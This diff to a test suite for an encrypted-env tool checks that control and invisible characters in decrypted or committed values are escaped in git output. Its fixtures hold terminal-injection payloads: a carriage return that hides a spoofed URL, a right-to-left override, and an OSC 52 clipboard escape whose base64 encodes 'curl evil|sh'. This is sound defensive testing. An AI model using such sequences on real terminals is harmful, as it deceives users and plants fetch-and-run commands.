@@ -132,6 +132,7 @@ describe("untrusted text in the view is escaped", () => {
   });
 
   it("a branch's decrypted values cannot drive the terminal or hide text behind a carriage return, in any format", () => {
+    const WARNING_LINE = "# hush: WARNING: the text below holds control or invisible characters, shown escaped (\\xNN, \\uNNNN); programs get the characters themselves";
     // Anyone with the recipients' public keys can encrypt such values: no key is needed to write them.
     const cases = [
       { name: "cr.enc.env", plain: "URL=https://evil.example/?\rURL=https://ok.example/\nTOKEN=t0ken\u001b]52;c;Y3VybCBldmlsfHNo\u0007\nNAME=\u202eabc\n", shown: ["+URL=https://evil.example/?\\x0dURL=https://ok.example/", "+TOKEN=t0ken\\x1b]52;c;Y3VybCBldmlsfHNo\\x07", "+NAME=\\u202eabc"] },
@@ -153,8 +154,13 @@ describe("untrusted text in the view is escaped", () => {
         for (const c of shownCases) {
           for (const line of c.shown) expect(out.split("\n")).toContain(line);
         }
-        expect(out).toContain("# hush: WARNING: the decrypted text holds control or invisible characters, shown escaped (\\xNN, \\uNNNN); programs get the characters themselves");
+        expect(out).toContain(WARNING_LINE);
       }
+      // Without a key: the key names the branch committed are escaped the same way.
+      const keyless = git(sb, repo, ["show", "HEAD"], { env: sb.keylessEnv }).stdout;
+      expect(keyless).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
+      expect(keyless).toMatch(/^\+k\\x1b\[31mx: <encrypted:[0-9a-f]{8}>$/m);
+      expect(keyless).toContain(WARNING_LINE);
       // The file itself is unchanged: programs get the values as they are.
       expect(hush(sb, ["decrypt", "cr.enc.env"], { cwd: repo }).stdout).toBe(cases[0]!.plain);
     } finally {
